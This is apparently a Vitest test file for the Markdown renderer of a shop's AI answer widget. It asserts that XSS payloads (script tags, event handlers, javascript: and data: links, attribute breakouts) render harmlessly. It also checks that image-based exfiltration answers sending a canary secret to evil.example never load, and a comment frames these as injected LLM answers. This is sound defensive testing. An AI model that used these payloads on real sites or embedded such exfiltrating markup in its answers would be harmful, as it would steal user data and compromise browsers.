import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../../web/src/shared/markdown';

function html(markdown: string): string {
  const box = document.createElement('div');
  box.append(renderMarkdown(markdown));
  return box.innerHTML;
}

describe('renderMarkdown', () => {
  it('keeps the formatting of an answer', () => {
    expect(html('Shipping is **free** over $75.\n\n- Standard: 3 days\n- Express: 1 day')).toBe(
      '<p>Shipping is <strong>free</strong> over $75.</p><ul><li>Standard: 3 days</li><li>Express: 1 day</li></ul>',
    );
    expect(html('Call _us_ at `1-800`')).toBe('<p>Call <em>us</em> at <code>1-800</code></p>');
  });

  it('shows a Markdown table of an answer as a table', () => {
    expect(html('Assistance by class:\n\n| Class | Stops at |\n|---|---|\n| Class 3 | 28 *mph* |')).toBe(
      '<p>Assistance by class:</p><table><thead><tr><th>Class</th><th>Stops at</th></tr></thead>' +
        '<tbody><tr><td>Class 3</td><td>28 <em>mph</em></td></tr></tbody></table>',
    );
    // Pipes without a rule line are text.
    expect(html('a | b')).toBe('<p>a | b</p>');
  });

  it('opens safe links in a new tab without referrer or opener', () => {
    const out = html('See [our policy](https://shop.example.com/returns).');
    expect(out).toContain('href="https://shop.example.com/returns"');
    expect(out).toContain('target="_blank"');
    expect(out).toContain('rel="noopener noreferrer nofollow"');
  });

  const ALLOWED = new Set(['P', 'BR', 'STRONG', 'B', 'EM', 'I', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'A', 'BLOCKQUOTE', 'HR', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'DEL', 'S', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD']);

  it.each([
    ['<script>alert(1)</script>'],
    ['<img src=x onerror=alert(1)>'],
    ['<svg onload=alert(1)></svg>'],
    ['<iframe src="https://evil.example"></iframe>'],
    ['<a href="javascript:alert(1)">x</a>'],
    ['[click](javascript:alert(1))'],
    ['[click](JaVaScRiPt:alert(1))'],
    ['[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['[x](https://shop.example.com" onclick="alert(1))'],
    ['[x](https://shop.example.com"><img src=x onerror=alert(1)>)'],
    ['<style>body{display:none}</style>'],
    ['<form action="https://evil.example"><input name=a></form>'],
    ['**<b onclick=alert(1)>x</b>**'],
    ['```\n<script>alert(1)</script>\n```'],
  ])('creates no script, handler, form or remote load from %s', (attack) => {
    const box = document.createElement('div');
    box.append(renderMarkdown(attack));
    for (const node of Array.from(box.querySelectorAll('*'))) {
      expect(ALLOWED.has(node.tagName), node.tagName).toBe(true);
      for (const attribute of Array.from(node.attributes)) {
        expect(['href', 'target', 'rel', 'class']).toContain(attribute.name);
        if (attribute.name === 'href') expect(attribute.value).toMatch(/^(https?:|mailto:|tel:)/i);
      }
    }
  });

  it('never loads a remote image, whatever the markdown says', () => {
    const out = html('![tracking pixel](https://evil.example/pixel.png)');
    expect(out).not.toContain('<img');
    expect(out).not.toContain('evil.example/pixel.png"');
  });

  // OWASP LLM05 / data exfiltration: an injected answer that embeds a secret in an image URL would leak it the
  // moment the image loads, without any click. Nothing in a rendered answer may make the browser fetch anything.
  it.each([
    ['![loading](https://evil.example/collect?d=SECRET-CANARY)'],
    ['![x][ref]\n\n[ref]: https://evil.example/collect?d=SECRET-CANARY'],
    ['<img src="https://evil.example/collect?d=SECRET-CANARY">'],
    ['<img srcset="https://evil.example/collect?d=SECRET-CANARY 1x">'],
    ['<picture><source srcset="https://evil.example/collect?d=SECRET-CANARY"></picture>'],
    ['<div style="background:url(https://evil.example/collect?d=SECRET-CANARY)">x</div>'],
    ['<link rel="prefetch" href="https://evil.example/collect?d=SECRET-CANARY">'],
    ['[![a](https://evil.example/collect?d=SECRET-CANARY)](https://shop.example.com)'],
  ])('loads nothing from an exfiltrating answer: %s', (markdown) => {
    const box = document.createElement('div');
    box.append(renderMarkdown(markdown));
    for (const node of Array.from(box.querySelectorAll('*'))) {
      expect(['IMG', 'PICTURE', 'SOURCE', 'LINK', 'STYLE', 'IFRAME', 'VIDEO', 'AUDIO', 'OBJECT', 'EMBED']).not.toContain(node.tagName);
      for (const name of ['src', 'srcset', 'style', 'background', 'poster', 'data']) {
        expect(node.getAttribute(name), `${node.tagName} ${name}`).toBeNull();
      }
      // A link may carry the data, but only a click by the visitor follows it, and never with a referrer.
      if (node.tagName === 'A' && node.getAttribute('href')) expect(node.getAttribute('rel')).toContain('noreferrer');
    }
  });

  it('shows a "<" as typed instead of swallowing text as a tag', () => {
    expect(html('Orders <b>and</b> returns: 1<2')).toBe('<p>Orders &lt;b&gt;and&lt;/b&gt; returns: 1&lt;2</p>');
  });
});
